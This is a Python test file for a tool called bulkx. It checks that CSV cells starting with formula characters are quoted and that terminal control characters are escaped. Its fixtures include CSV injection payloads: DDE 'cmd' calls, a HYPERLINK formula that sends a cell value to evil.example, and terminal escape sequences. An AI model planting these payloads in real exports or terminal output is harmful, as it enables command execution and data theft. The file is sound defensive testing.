"""The two output rules (issue 15 item 7): no CSV cell a spreadsheet runs, no terminal byte a
terminal obeys; and a written cell reads back as what bulkx meant."""

from __future__ import annotations

import io

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bulkx.escaping import (
    csv_cell,
    csv_writer,
    has_control,
    neutralised_columns,
    printable,
    unquote_cell,
)

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "+1-2e3",  # a letter: not only a number
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_quoted(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["+15551234567", "+1 (516) 206-5575", "-5", "-0.25", "15162065575", "plain", ""]
)
def test_numbers_and_phone_numbers_are_left_alone(value: str) -> None:
    # Nothing in them can name a function, a cell or a DDE target; quoting them would change
    # every number of a report a plan is made from.
    assert csv_cell(value) == value


def test_non_text_cells_pass_through() -> None:
    assert csv_cell(-5) == -5
    assert csv_cell(None) is None


@given(st.text(max_size=20) | st.sampled_from(FORMULAS).map(lambda f: "'" * 2 + f))
def test_a_written_cell_reads_back_exactly(value: str) -> None:
    assert unquote_cell(csv_cell(value)) == value


def test_the_writer_quotes_cells_and_escapes_them_only_on_a_terminal() -> None:
    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    to_file, to_tty = io.StringIO(), Tty()
    for out in (to_file, to_tty):
        csv_writer(out).writerow(["=1+1", "a\x1b[2Jb", "+15551234567"])
    assert to_file.getvalue() == "'=1+1,a\x1b[2Jb,+15551234567\n"
    assert to_tty.getvalue() == "'=1+1,a\\x1b[2Jb,+15551234567\n"


def test_the_vectorised_form_agrees_with_csv_cell() -> None:
    values = [*FORMULAS, "+15551234567", "-5", "ok", "'=x", None]
    frame = pl.LazyFrame({"*": values, "n": list(range(len(values)))})
    out = neutralised_columns(frame).collect()
    assert out["*"].to_list() == [csv_cell(v) for v in values]
    assert out["n"].to_list() == list(range(len(values)))


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("tg\x1b]0;pwned\x07", "tg\\x1b]0;pwned\\x07"),
        ("a\x1b[2Jb", "a\\x1b[2Jb"),
        ("hidden\rshown", "hidden\\x0dshown"),
        ("line\nfake line", "line\\x0afake line"),
        ("\x9b31m", "\\x9b31m"),  # C1 CSI
        ("abc\u202edcba", "abc\\u202edcba"),  # bidi override
        ("café ☎", "café ☎"),
    ],
)
def test_printable_shows_every_control_character(raw: str, shown: str) -> None:
    assert printable(raw) == shown
    assert not has_control(printable(raw))


def test_printable_may_keep_bulkx_s_own_newlines() -> None:
    assert printable("steps:\n  - kind: did\x1b", keep_newlines=True) == (
        "steps:\n  - kind: did\\x1b"
    )


def test_the_monitor_s_item_view_escapes_what_it_shows() -> None:
    # Rich and Textual pass ESC through to the terminal: the monitor escapes data itself.
    from bulkx.journal import Operation
    from bulkx.tui.screens import item_text
    from bulkx.tui.source import ItemHistory

    op = Operation(
        op_key="k",
        step="evil\x1b[2J",
        kind="trunk_group",
        key="tg\x1b]0;pwned\x07",
        action="create",
        position="p.yaml:5",
        depends_on=(),
        change={},
        state="failed",
        error="boom\x1b[2J\nsecond line",
    )
    shown = item_text(ItemHistory(op, ())).plain
    assert "\x1b" not in shown and "\x07" not in shown
    assert "tg\\x1b]0;pwned\\x07" in shown and "evil\\x1b[2J" in shown
    assert "boom\\x1b[2J\nsecond line" in shown
